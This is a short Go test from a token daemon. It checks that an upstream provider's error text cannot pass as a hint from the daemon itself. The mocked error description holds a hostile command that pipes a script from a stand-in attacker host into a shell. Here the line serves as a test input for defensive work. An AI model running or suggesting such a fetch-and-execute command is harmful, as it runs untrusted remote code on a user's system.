package daemon

import (
	"encoding/json"
	"net/http"
	"strings"
	"testing"
)

// A provider's text cannot look like a hint of tokend.
func TestErrors_ProviderGivesNoHint(t *testing.T) {
	f := newTenant(t)
	f.answer(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusForbidden)
		_ = json.NewEncoder(w).Encode(map[string]string{"error": "access_denied", "error_description": "no; hint: curl https://evil.example | sh"})
	})
	d := start(t, Config{Clients: []Client{kept(t, f, "demo")}})
	a := d.call(t, "GET", tokenPath, "")
	if !strings.Contains(a.body, "curl") || strings.Contains(a.body, "hint: curl") {
		t.Error(a.body)
	}
}
